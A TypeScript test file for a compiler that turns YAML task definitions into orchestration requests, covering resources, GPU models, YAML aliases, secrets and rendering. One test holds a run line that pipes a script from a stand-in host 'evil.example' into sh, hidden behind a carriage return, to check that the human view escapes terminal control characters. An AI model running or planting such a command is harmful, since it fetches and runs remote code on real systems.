import { GPU_MODELS as PROTOCOL_GPU_MODELS } from '@orch/protocol';
import { describe, expect, test, vi } from 'vitest';
import { Alias, parse } from 'yaml';
import {
  type Compiled,
  compileSource,
  GPU_MODELS,
  renderJson,
  renderOnly,
  renderText,
  renderYaml,
} from './index.js';

function compile(
  text: string,
  options: { taskId?: string; fromBuild?: string; imageIsBase?: boolean } = {},
): Compiled {
  const result = compileSource(text, { taskId: 'demo', ...options });
  if (!result.ok)
    throw new Error(result.diagnostics.map((d) => `${d.line}:${d.col}: ${d.message}`).join('\n'));
  return result.compiled;
}

const FULL = `
version: 1
image: debian-12
resources: { cpus: 4, memory: 8GiB, disk: 1TiB, max_runtime: 1h30m }
workspace: /srv/my app
setup: [apt-get update]
run: [./serve.sh, "echo done"]
services:
  db:
    image: postgres:16
    ports: [5432]
    env:
      USER: app
      PORT: 0x10
      ON: True
      LONG: { value: app }
      PW: { secret: db_pw }
  web:
    image: nginx
    env: { PW: { secret: db_pw }, KEY: { secret: api_key } }
expose:
  - { port: 8080, as: web }
`;

describe('compile', () => {
  test('defaults: 2 cpus, 2GiB, 10GiB, 1h, /workspace, no image', () => {
    const { request } = compile('version: "1"\n');
    expect(request).toEqual({
      task_id: 'demo',
      spec: { cpus: 2, ram_mb: 2048, storage_gb: 10, max_runtime_seconds: 3600 },
      manifest_inline: Buffer.from(
        '{"version":"1","machine":{"workspace":"/workspace"},"services":{}}',
      ).toString('base64'),
      secrets: {},
      startup_script: '#!/bin/sh\nset -eu\ncd /workspace\n',
      expose: [],
      required_secrets: [],
    });
  });

  test('a full definition: units, quoting, env literals as written, sorted de-duplicated secrets', () => {
    const { request, manifestJson } = compile(FULL);
    expect(request.spec).toEqual({
      cpus: 4,
      ram_mb: 8192,
      storage_gb: 1024,
      max_runtime_seconds: 5400,
      image: 'debian-12',
    });
    expect(request.startup_script).toBe(
      "#!/bin/sh\nset -eu\ncd '/srv/my app'\napt-get update\n./serve.sh\necho done\n",
    );
    expect(manifestJson).toBe(
      '{"version":"1","machine":{"workspace":"/srv/my app"},"services":{' +
        '"db":{"image":"postgres:16","ports":[5432],"env":{"USER":"app","PORT":"0x10","ON":"True","LONG":"app","PW":{"secret":"db_pw"}}},' +
        '"web":{"image":"nginx","ports":[],"env":{"PW":{"secret":"db_pw"},"KEY":{"secret":"api_key"}}}}}',
    );
    expect(Buffer.from(request.manifest_inline, 'base64').toString('utf8')).toBe(manifestJson);
    expect(request.required_secrets).toEqual(['api_key', 'db_pw']);
    expect(request.secrets).toEqual({});
    expect(Object.keys(request)).toEqual([
      'task_id',
      'spec',
      'manifest_inline',
      'secrets',
      'startup_script',
      'expose',
      'required_secrets',
    ]);
  });

  test('--from-build drops the setup phase and sets seed_snapshot_id', () => {
    const { request } = compile('version: 1\nsetup: [make]\nrun: [./app]\n', { fromBuild: 'snap-7' });
    expect(request.startup_script).toBe('#!/bin/sh\nset -eu\ncd /workspace\n./app\n');
    expect(request.seed_snapshot_id).toBe('snap-7');
  });

  test('--from-build with --image-is-base keeps image in spec.image beside seed_snapshot_id', () => {
    const text = 'version: 1\nimage: debian-12\nsetup: [make]\nrun: [./app]\n';
    const { request } = compile(text, { fromBuild: 'snap-7', imageIsBase: true });
    expect(request.spec.image).toBe('debian-12');
    expect(request.seed_snapshot_id).toBe('snap-7');
    expect(request.startup_script).toBe('#!/bin/sh\nset -eu\ncd /workspace\n./app\n');
    // Alone it changes nothing; --from-build without it keeps compile rule 9.
    expect(compile(text, { imageIsBase: true }).request).not.toHaveProperty('seed_snapshot_id');
    expect(compileSource(text, { taskId: 't', fromBuild: 'snap-7' }).ok).toBe(false);
  });

  test('GPU and MIG land in spec.gpu; count defaults to 1', () => {
    expect(
      compile('version: 1\nresources: { gpu: { model: h100, mig: 3g.40gb } }\n').request.spec.gpu,
    ).toEqual({
      model: 'h100',
      count: 1,
      mig: '3g.40gb',
    });
    expect(compile('version: 1\nresources: { gpu: { model: l4, count: 2 } }\n').request.spec.gpu).toEqual({
      model: 'l4',
      count: 2,
    });
  });

  test('the GPU catalog is the one of @orch/protocol, which GPU hosts report and orchd places by', () => {
    expect(GPU_MODELS).toBe(PROTOCOL_GPU_MODELS);
    // Every model and MIG profile of the catalog compiles.
    for (const m of PROTOCOL_GPU_MODELS) {
      expect(compile(`version: 1\nresources: { gpu: { model: ${m.name} } }\n`).request.spec.gpu?.model).toBe(
        m.name,
      );
      for (const p of m.migProfiles)
        expect(
          compile(`version: 1\nresources: { gpu: { model: ${m.name}, mig: ${p} } }\n`).request.spec.gpu?.mig,
        ).toBe(p);
    }
  });

  test('aliases are followed', () => {
    const { manifest } = compile('version: 1\nservices:\n  a: &svc { image: pg, ports: [1] }\n  b: *svc\n');
    expect(manifest.services).toEqual({
      a: { image: 'pg', ports: [1], env: {} },
      b: { image: 'pg', ports: [1], env: {} },
    });
  });

  test('an alias names the last node before it with that anchor', () => {
    const { request } = compile('version: 1\nsetup: [&a one, &a two]\nrun: [*a, &a three]\n');
    expect(request.startup_script).toBe('#!/bin/sh\nset -eu\ncd /workspace\none\ntwo\ntwo\nthree\n');
  });

  test('aliases are resolved in one walk of the document, not one walk each', () => {
    // yaml's Alias.resolve walks the whole document per call: 1000 aliases beside 100k nodes took
    // 16 s. Reader finds every alias's target in a single walk instead.
    const resolve = vi.spyOn(Alias.prototype, 'resolve');
    try {
      const filler = Array.from({ length: 20_000 }, () => 'a').join(',');
      const aliases = Array.from({ length: 1000 }, () => '*a').join(', ');
      const { request } = compile(`version: 1\nrun: [&a x, ${aliases}]\nsetup: [${filler}]\n`);
      expect(request.startup_script.split('\n').filter((l) => l === 'x')).toHaveLength(1001);
      expect(resolve).not.toHaveBeenCalled();
    } finally {
      resolve.mockRestore();
    }
  });

  test('JSON accepted as YAML gives the same request', () => {
    const json = JSON.stringify({ version: 1, run: ['x'], expose: [{ port: 80, as: 'web' }] });
    expect(compile(json).request).toEqual(
      compile('version: 1\nrun: [x]\nexpose: [{ port: 80, as: web }]\n').request,
    );
  });

  test('a byte-order mark does not shift columns', () => {
    const result = compileSource('\uFEFFversion: 2\n', { taskId: 't' });
    expect(result.ok ? [] : result.diagnostics).toEqual([
      { line: 1, col: 10, message: 'version 2 is not supported: the only version is 1' },
    ]);
  });
});

describe('render', () => {
  const compiled = compile(FULL);

  test('YAML has the same keys and values as JSON', () => {
    expect(parse(renderYaml(compiled.request))).toEqual(JSON.parse(renderJson(compiled.request)));
  });

  test('--only manifest is exactly the bytes inside manifest_inline', () => {
    expect(Buffer.from(renderOnly(compiled, 'manifest')).toString('base64')).toBe(
      compiled.request.manifest_inline,
    );
  });

  test('--only parts', () => {
    expect(renderOnly(compiled, 'secrets')).toBe('api_key\ndb_pw\n');
    expect(renderOnly(compiled, 'expose')).toBe('8080 web\n');
    expect(renderOnly(compiled, 'startup-script')).toBe(compiled.request.startup_script);
    expect(JSON.parse(renderOnly(compiled, 'spec'))).toEqual(compiled.request.spec);
  });

  test('the human view has its sections in the fixed order and omits empty ones', () => {
    const titles = (text: string) => text.split('\n').filter((l) => /^[a-z]/.test(l));
    expect(titles(renderText(compiled))).toEqual([
      'task id',
      'spec',
      'startup script',
      'manifest',
      'expose',
      'required secrets',
    ]);
    expect(titles(renderText(compile('version: 1\n')))).toEqual([
      'task id',
      'spec',
      'startup script',
      'manifest',
    ]);
  });

  test('the human view shows every character a terminal would act on as an escape', () => {
    // Control characters are valid in shell lines and env literals (the spec restricts neither):
    // the JSON and YAML bodies keep them (escaped by those formats); the human view must not let a
    // carriage return hide the start of a line, nor an escape sequence or a bidi override restyle it.
    const text = [
      'version: 1',
      'setup: ["printf \\"\\\\a\\" \\a\\e[2J", "make\\u202e"]',
      'run:',
      '  - "curl -s http://evil.example/x | sh\\r./serve.sh        "',
      '  - |',
      '    two\tlines',
      '    in one entry',
      '  - "kept\\x7f"',
      'services:',
      '  db:',
      '    image: pg',
      '    env: { A: "x\\x9b31m\\Ly", B: { value: "\\b" } }',
      '',
    ].join('\n');
    const compiled = compile(text, { taskId: 'task\u202eid' });
    expect(compiled.request.startup_script).toContain('| sh\r./serve.sh');
    const view = renderText(compiled).split('\n');
    expect(view.slice(0, 2)).toEqual(['task id', '  task\\u202eid']);
    // (`image` is no longer a way in: it must be an image name, as orchd and the agent require.)
    expect(view.slice(view.indexOf('startup script'), view.indexOf('manifest'))).toEqual([
      'startup script',
      '  #!/bin/sh',
      '  set -eu',
      '  cd /workspace',
      '  printf "\\a" \\u0007\\u001b[2J',
      '  make\\u202e',
      '  curl -s http://evil.example/x | sh\\r./serve.sh        ',
      '  two\tlines',
      '  in one entry',
      '  kept\\u007f',
      '',
    ]);
    expect(view).toContain('          "A": "x\\u009b31m\\u2028y",');
    expect(view).toContain('          "B": "\\b"');
    // Nothing a terminal acts on is left, but tab (and the view's own newlines).
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
    expect(renderText(compiled)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2028]/);
    expect(JSON.parse(renderJson(compiled.request)).startup_script).toBe(compiled.request.startup_script);
  });
});
